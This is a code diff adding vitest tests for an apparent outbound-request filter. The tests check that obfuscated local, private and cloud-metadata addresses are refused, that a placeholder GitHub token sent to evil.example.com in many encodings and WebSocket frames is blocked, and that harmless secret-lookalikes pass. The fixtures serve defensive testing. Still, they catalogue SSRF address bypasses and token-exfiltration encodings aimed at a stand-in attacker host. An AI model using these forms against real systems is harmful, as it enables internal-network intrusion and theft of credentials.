@@ -3,7 +3,14 @@ import { spawnSync } from "node:child_process";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { type Case, readCases } from "../../scripts/egress/case.ts";
-import { type Figures, figuresOf, type Result, readPolicy, runCases } from "../../scripts/egress/run.ts";
+import {
+  type Figures,
+  figuresOf,
+  type Result,
+  readPolicy,
+  resultLines,
+  runCases,
+} from "../../scripts/egress/run.ts";
 import { ROOT } from "../harness.ts";
 
 const FIXTURES = join(ROOT, "test/fixtures/egress");
@@ -84,6 +91,200 @@ describe("the runner measures what arrived, not what was hoped", () => {
       { actual: "block", rules: ["gateway.address-refused"], arrived: [0, 1] },
       { actual: "block", rules: ["gateway.address-refused"], arrived: [0, 1] },
     ]);
+  });
+});
+
+/** A case of our own, in the suite's form. */
+function own(
+  id: string,
+  payload: Case["payload"],
+  expected_verdict: Case["expected_verdict"] = "block",
+  more: Partial<Case> = {},
+): Case {
+  const url = typeof payload["url"] === "string" ? payload["url"] : "";
+  const transport = url.startsWith("ws") ? "websocket" : "fetch_proxy";
+  return {
+    schema_version: 1,
+    id,
+    title: id,
+    input_type: "url",
+    transport,
+    payload,
+    expected_verdict,
+    requires: [],
+    ...more,
+  };
+}
+
+describe("what the suite does not ask", () => {
+  it("every spelling of an address of this machine, its network or its cloud is refused, over HTTP, HTTPS and WebSocket", async () => {
+    const hosts = [
+      "127.1",
+      "0177.0.0.1",
+      "0x7f.0.0.1",
+      "0",
+      "127.0.0.1.",
+      "[::1]",
+      "[::]",
+      "[::ffff:7f00:1]",
+      "[64:ff9b::7f00:1]",
+      "[2002:7f00:1::]",
+      "[fe80::1]",
+      "[fd00:ec2::254]",
+      "172.16.5.4",
+      "192.168.1.1",
+      "100.64.0.1",
+      "100.100.100.200",
+      "192.0.0.192",
+      "2852039166",
+      "0251.0376.0251.0376",
+      "①②⑦.⓪.⓪.①",
+      "localhost",
+      "localhost.",
+      "a.localhost",
+      "metadata.google.internal",
+      "example.com@127.0.0.1",
+      "example.com\\@127.0.0.1",
+      "127.0.0.1.nip.io",
+    ];
+    const urls = hosts.flatMap((host) => [`http://${host}/`, `https://${host}/`, `ws://${host}/`]);
+    const { results } = await runCases(
+      urls.map((url) =>
+        own(url, url.startsWith("ws") ? { url, frames: [{ opcode: "text", payload: "hi" }] } : { url }),
+      ),
+      readPolicy(),
+    );
+    const passed = results.filter(({ actual, arrived }) => actual !== "block" || arrived[0] > 0);
+    expect(passed.map(({ id, actual }) => `${id} ${actual}`)).toEqual([]);
+  });
+
+  const TOKEN = `ghp_${"R4nd0mT0k3nV4lu3Ab9Xy7Zq2Ws5Ed8Rf1Tg"}`;
+  const base64 = Buffer.from(TOKEN).toString("base64");
+  const evil = "https://evil.example.com/x";
+  const escaped = (text: string): string =>
+    [...Buffer.from(text)].map((byte) => `%${byte.toString(16)}`).join("");
+  const frame = (payload: string, opcode = "text", fin = true): object => ({ opcode, fin, payload });
+
+  it.each<[string, Case["payload"]]>([
+    ["in a path", { url: `${evil}/${TOKEN}` }],
+    ["in hexadecimal", { url: `${evil}?d=${Buffer.from(TOKEN).toString("hex")}` }],
+    ["in base64url", { url: `${evil}?d=${Buffer.from(TOKEN).toString("base64url")}` }],
+    ["in base64, twice", { url: `${evil}?d=${Buffer.from(base64).toString("base64")}` }],
+    ["escaped three times", { url: `${evil}?d=${escaped(TOKEN).replaceAll("%", "%2525")}` }],
+    ["in an own header", { url: evil, headers: { "X-Data": base64 } }],
+    ["in the User-Agent", { url: evil, headers: { "User-Agent": `curl ${TOKEN}` } }],
+    [
+      "in a form",
+      {
+        url: evil,
+        method: "POST",
+        content_type: "application/x-www-form-urlencoded",
+        body: `k=${escaped(TOKEN)}`,
+      },
+    ],
+    [
+      "in an uploaded file",
+      {
+        url: evil,
+        method: "POST",
+        content_type: "multipart/form-data; boundary=B",
+        body: `--B\r\nContent-Disposition: form-data; name="f"; filename="a"\r\n\r\n${TOKEN}\r\n--B--\r\n`,
+      },
+    ],
+    ["in XML", { url: evil, method: "POST", content_type: "application/xml", body: `<a>${TOKEN}</a>` }],
+    ["in JSON escapes", { url: evil, method: "POST", body: `{"k":"\\u0067hp_${TOKEN.slice(4)}"}` }],
+    [
+      "over two members",
+      { url: evil, method: "POST", body: `{"a":"${TOKEN.slice(0, 20)}","b":"${TOKEN.slice(20)}"}` },
+    ],
+    [
+      "in three fragments",
+      {
+        url: "wss://evil.example.com/",
+        frames: [
+          frame(TOKEN.slice(0, 9), "text", false),
+          frame(TOKEN.slice(9, 20), "continuation", false),
+          frame(TOKEN.slice(20), "continuation"),
+        ],
+      },
+    ],
+    ["in a ping", { url: "wss://evil.example.com/", frames: [frame(TOKEN, "ping")] }],
+    ["in a pong", { url: "wss://evil.example.com/", frames: [frame(TOKEN, "pong")] }],
+    ["in the reason of a close", { url: "wss://evil.example.com/", frames: [frame(TOKEN, "close")] }],
+    ["in a handshake's query", { url: `wss://evil.example.com/?k=${TOKEN}`, frames: [frame("hi")] }],
+  ])("a token %s does not arrive", async (name, payload) => {
+    const { results } = await runCases([own(name, payload)], readPolicy());
+    expect(results[0]).toMatchObject({ actual: "block", arrived: [0, 1], rules: ["protected-data-stays"] });
+    expect(results[0]?.findings.map(({ detector }) => detector)).toContain("github-token");
+  });
+
+  it("what looks like a secret and is none arrives", async () => {
+    const post = (body: string, type = "application/json"): Case["payload"] => ({
+      url: "https://api.example.com/x",
+      method: "POST",
+      content_type: type,
+      body,
+    });
+    const payloads: Readonly<Record<string, Case["payload"]>> = {
+      commit: { url: "https://github.com/nodejs/node/commit/9cd77707d0f3f6f2f2fa8f7d8e6c6d5a4b3c2d1e" },
+      package: { url: "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz" },
+      document: {
+        url: "https://docs.google.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit",
+      },
+      "content host": { url: "https://d111111abcdef8.cloudfront.net/img.png" },
+      bucket: { url: "https://my-bucket-prod-eu.s3.eu-central-1.amazonaws.com/a/b.png" },
+      "function host": { url: "https://abcdefghij1234567890abcdefghij12.lambda-url.us-east-1.on.aws/" },
+      "escaped words": { url: "https://en.wikipedia.org/wiki/%E4%BA%BA%E5%B7%A5%E6%99%BA%E8%83%BD" },
+      "a URL in a URL": { url: "https://example.com/r?to=https%3A%2F%2Fexample.org%2F%3Fq%3Da%2520b" },
+      "sign-in": {
+        url: "https://accounts.google.com/o/oauth2/v2/auth?client_id=123456789012-abc.apps.googleusercontent.com&state=af0ifjsldkj&scope=openid",
+      },
+      ulid: { url: "https://api.example.com/r/01ARZ3NDEKTSV4RRFFQ69G5FAV" },
+      etag: {
+        url: "https://api.example.com/",
+        headers: { "If-None-Match": '"33a64df551425fcc55e4d42a148795d9f25f89d4"' },
+      },
+      trace: {
+        url: "https://api.example.com/",
+        headers: { traceparent: "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01" },
+      },
+      cookies: {
+        url: "https://api.example.com/",
+        headers: { Cookie: "_ga=GA1.2.1234567890.1700000000; theme=dark" },
+      },
+      lockfile: post(
+        '{"integrity":"sha512-v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSg=="}',
+      ),
+      code: post('{"content":"const token = process.env.GITHUB_TOKEN; if (!token) throw new Error()"}'),
+      docs: post('{"text":"Use `export API_KEY=your-key-here` and never commit it."}'),
+      "public key": post(
+        "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAEEVs/o5+uQbTjL3chynL4wXgUg2R9\n-----END PUBLIC KEY-----",
+        "text/plain",
+      ),
+      addresses: post('{"dns":["8.8.8.8","192.168.0.1","127.0.0.1"]}'),
+      query: post("SELECT id, password_hash FROM users WHERE id = 1", "text/plain"),
+    };
+    const cases = Object.entries(payloads).map(([id, payload]) => own(id, payload, "allow"));
+    const { figures, results } = await runCases(cases, readPolicy());
+    expect(figures.failing).toEqual([]);
+    expect(results.every(({ arrived: [some, all] }) => some === 1 && all === 1)).toBe(true);
+  });
+});
+
+it("--results writes one line a case, in the suite's own form", async () => {
+  const { figures, results } = await runCases(cases, readPolicy());
+  const lines = resultLines(cases, results, figures);
+  expect(lines.map(({ case_id }) => case_id)).toEqual(cases.map(({ id }) => id));
+  expect(lines.filter(({ score }) => score === "pass")).toHaveLength(figures.applicable);
+  expect(lines.find(({ case_id }) => case_id === "response-injection-ignore-002")).toEqual({
+    case_id: "response-injection-ignore-002",
+    tool: "sallyport",
+    tool_version: expect.any(String),
+    expected_verdict: "block",
+    actual_verdict: "not_applicable",
+    score: "not_applicable",
+    evidence: {},
+    notes: expect.stringContaining("replies"),
   });
 });
 
